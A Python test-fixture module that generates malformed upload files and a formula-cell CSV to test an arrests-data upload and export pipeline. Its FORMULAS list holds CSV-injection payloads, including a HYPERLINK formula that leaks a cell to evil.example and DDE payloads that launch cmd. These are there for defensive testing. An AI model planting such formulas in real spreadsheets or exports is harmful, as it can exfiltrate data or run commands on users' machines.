"""A corpus of hostile upload files for the arrests schema of tests/datasets/support.py
(person_id string, age integer, arrest_date date, offence category, released boolean,
bail float).

`bad_files()` are files every upload path must refuse with a 4xx and a message, storing
nothing; `formula_csv()` is a file that must be accepted (formula-looking text is data) and
whose cells must come out neutralised in every CSV export. Everything is built in memory,
deterministically, and small enough to keep the tests fast: the widest file is as wide as
the checker's column limit allows to be read plus one (a million one-letter columns, 2 MB).
"""

from __future__ import annotations

import io
import random
from dataclasses import dataclass

import pyarrow as pa
import pyarrow.parquet as pq

HEADER = "person_id,age,arrest_date,offence,released,bail\n"
ROW = "P1,34,2021-03-04,theft,yes,100.5\n"
GOOD = HEADER + ROW + "P2,19,2022-11-30,assault,,\n"

#: Cells a spreadsheet would run (OWASP CSV injection): each must be stored as text and
#: exported with a leading apostrophe.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=cmd|' /C notepad'!A1",
]


@dataclass(frozen=True)
class BadFile:
    id: str
    name: str
    content: bytes
    says: str  # a fragment of the refusal message (lower case), "" when any message will do


def _parquet(table: pa.Table) -> bytes:
    sink = io.BytesIO()
    pq.write_table(table, sink)
    return sink.getvalue()


def good_parquet() -> bytes:
    return _parquet(
        pa.table(
            {
                "person_id": ["P1", "P2"],
                "age": pa.array([34, 19], pa.int32()),
                "arrest_date": pa.array([18000, 18001], pa.date32()),
                "offence": ["theft", "fraud"],
                "bail": [1.0, None],
            }
        )
    )


def _garbage(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def bad_files() -> list[BadFile]:
    parquet = good_parquet()
    return [
        BadFile(
            "latin-1",
            "arrests.csv",
            (HEADER + "P1,34,2021-03-04,caf\u00e9,yes,1\n").encode("latin-1"),
            "utf-8",
        ),
        BadFile("utf-16-with-bom", "arrests.csv", GOOD.encode("utf-16"), ""),
        BadFile("utf-16-le-no-bom", "arrests.csv", GOOD.encode("utf-16-le"), ""),
        BadFile("utf-32", "arrests.csv", GOOD.encode("utf-32"), ""),
        BadFile("two-byte-order-marks", "arrests.csv", ("\ufeff\ufeff" + GOOD).encode(), ""),
        BadFile("nul-in-header", "arrests.csv", ("person_id\x00," + GOOD[10:]).encode(), "nul"),
        BadFile(
            "nul-in-cell", "arrests.csv", (HEADER + "P\x001,34,2021-03-04,x,,\n").encode(), "nul"
        ),
        BadFile(
            "huge-field",
            "arrests.csv",
            (HEADER + "P1,34,2021-03-04," + "x" * 300_000 + ",,\n").encode(),
            "larger",
        ),
        BadFile("huge-header", "arrests.csv", ("p" * 300_000 + "\nP1\n").encode(), ""),
        BadFile(
            "a-million-columns",
            "arrests.csv",
            ",".join(["c"] * 1_000_000).encode() + b"\n",
            "columns",
        ),
        BadFile(
            "duplicate-headers",
            "arrests.csv",
            b"person_id,age,age,arrest_date,offence\nP1,3,3,2021-03-04,x\n",
            "more than once",
        ),
        BadFile("ragged-short-row", "arrests.csv", (HEADER + "P1,34\n").encode(), ""),
        BadFile(
            "ragged-long-row",
            "arrests.csv",
            (HEADER + "P1,34,2021-03-04,theft,yes,1,extra,more\n").encode(),
            "",
        ),
        BadFile(
            "unterminated-quote",
            "arrests.csv",
            (HEADER + 'P1,34,2021-03-04,"theft,yes,1\nP2,3,2021-03-04,x,,\n').encode(),
            "",
        ),
        BadFile("empty-csv", "arrests.csv", b"", ""),
        BadFile("blank-lines-only", "arrests.csv", b"\n\n\r\n", ""),
        BadFile("garbage-csv", "arrests.csv", _garbage(4096, 1), ""),
        BadFile("gzip-named-csv", "arrests.csv", b"\x1f\x8b\x08\x00" + _garbage(512, 2), ""),
        BadFile("parquet-named-csv", "arrests.csv", parquet, ""),
        BadFile("empty-parquet", "arrests.parquet", b"", ""),
        BadFile("garbage-parquet", "arrests.parquet", _garbage(4096, 3), "parquet"),
        BadFile("csv-named-parquet", "arrests.parquet", GOOD.encode(), "parquet"),
        BadFile("truncated-parquet", "arrests.parquet", parquet[: len(parquet) // 2], "parquet"),
        BadFile("parquet-magic-only", "arrests.parquet", b"PAR1PAR1", "parquet"),
        BadFile(
            "parquet-footer-damaged",
            "arrests.parquet",
            parquet[:-12] + b"\xff" * 8 + parquet[-4:],
            "parquet",
        ),
        BadFile(
            "parquet-wrong-types",
            "arrests.parquet",
            _parquet(
                pa.table({"person_id": [1], "age": ["x"], "arrest_date": [1.5], "offence": [None]})
            ),
            "",
        ),
        BadFile("no-extension", "arrests", GOOD.encode(), ""),
        BadFile("spreadsheet", "arrests.xlsx", b"PK\x03\x04" + _garbage(256, 4), ""),
    ]


def formula_csv() -> bytes:
    """An acceptable file whose text cells look like formulas."""
    lines = [HEADER]
    for i, cell in enumerate(FORMULAS):
        quoted = '"' + cell.replace('"', '""') + '"'
        lines.append(f"{quoted},{20 + i},2021-03-04,{quoted},yes,1.5\n")
    return "".join(lines).encode()
